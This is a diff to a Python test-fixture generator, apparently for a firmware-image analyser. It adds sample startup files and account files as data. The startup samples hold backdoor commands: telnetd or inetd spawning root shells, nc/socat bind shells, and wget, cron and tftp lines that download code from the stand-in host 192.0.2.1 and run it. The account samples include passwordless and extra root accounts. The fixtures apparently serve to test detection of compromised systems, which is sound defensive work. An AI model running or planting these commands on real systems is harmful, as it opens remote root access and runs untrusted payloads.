@@ -130,6 +130,10 @@ def files():
         yield "bundle", name, program
     for name, program in PROGRAMS.items():
         yield "update", name, bytes(program)
+    for name, (kind, text) in STARTERS.items():
+        yield "starters", name, bytes([kind]) + text.encode()
+    for name, (percent, text) in ACCOUNTS.items():
+        yield "accounts", name, bytes([percent]) + text.encode()
 
 
 ODD_JSON = {
@@ -189,6 +193,28 @@ BUNDLES = {
     "prefix": b"\x11targets/rootfs.im" + bytes([1, 0, 0, 0]) + b"images/gate-1/2.0" + b"z" + b"\0",
     "folder": b"\x05data/" + bytes([0, 0, 3, 1]) + b"\0\0",
     "wrong-sum": b"\x49" + b"m" * 73 + bytes(4) + b"\0",
+}
+# The kind, and the file.
+STARTERS = {
+    "inittab": (0, "::sysinit:/etc/init.d/rcS\n::respawn:/usr/sbin/telnetd -F -l /bin/sh\ntn:2:once:a; telnetd &\n"),
+    "inetd": (1, "#x\ntelnet\tstream tcp nowait root /usr/sbin/tcpd in.telnetd\n31337 stream tcp nowait root /bin/sh sh -i\n"),
+    "xinetd": (2, "service telnet\n{\n\tdisable = no\n\tserver = /usr/sbin/in.telnetd\n}\n"),
+    "script": (3, "#!/bin/sh\nif [ -x /sbin/telnetd ]; then /sbin/telnetd -l \\\n /bin/sh & fi\nsh -c \"telnetd\"\n"),
+    "procd": (3, "PROG=\"/usr/sbin/telnetd\"\nprocd_set_param command \"$PROG\" -F\nkillall telnetd\n"),
+    "shells": (3, "nc -l -p 4444 -e /bin/sh &\nsocat TCP-LISTEN:9 EXEC:/bin/ash\ntcpsvd 0 99 sh -i\n"),
+    "dropper": (3, "cd /tmp || cd /var; wget http://192.0.2.1/b; chmod 777 b; ./b\n"),
+    "cron": (4, "*/5 * * * * wget -qO- http://192.0.2.1/x | sh\n@reboot telnetd\n"),
+    "cron-of-users": (5, "@daily root busybox tftp -g -r x 192.0.2.1 && sh /tmp/x\n* * * * * root telnetd\n"),
+    "unit": (6, "[Service]\nExecStart=-/usr/sbin/in.telnetd \\\n  -h\n"),
+}
+# How many percent are the first file, and both files.
+ACCOUNTS = {
+    "both": (52, "root:x:0:0:root:/root:/bin/sh\nguest::5:5:::\ntoor:x:0:0::/:\n"
+                 "root:$1$abcdefgh$0123456789012345678901:1:0:9:7:::\ntoor::1::::::\n"),
+    "passwd": (100, "root:abJnggxhB/yWI:0:0::/:\r\n+::::::\n::0:0:::\nroot:x:0:0:::\nodd:x:minus:0"),
+    "web": (100, "admin:$apr1$salt$0123456789012345678901\nguest:guest\n"),
+    "keys": (100, "# k\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIqI4910CfGV/VLbLTy6XXLKZwm/HZQSG/N0iAG0D29c a\n"
+                  "command=\"x y\" ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIIqI4910CfGV/VLbLTy6XXLKZwm/HZQSG/N0iAG0D29c\n"),
 }
 # For each refresh: clock, server, power cut, then what becomes of each answer.
 PROGRAMS = {
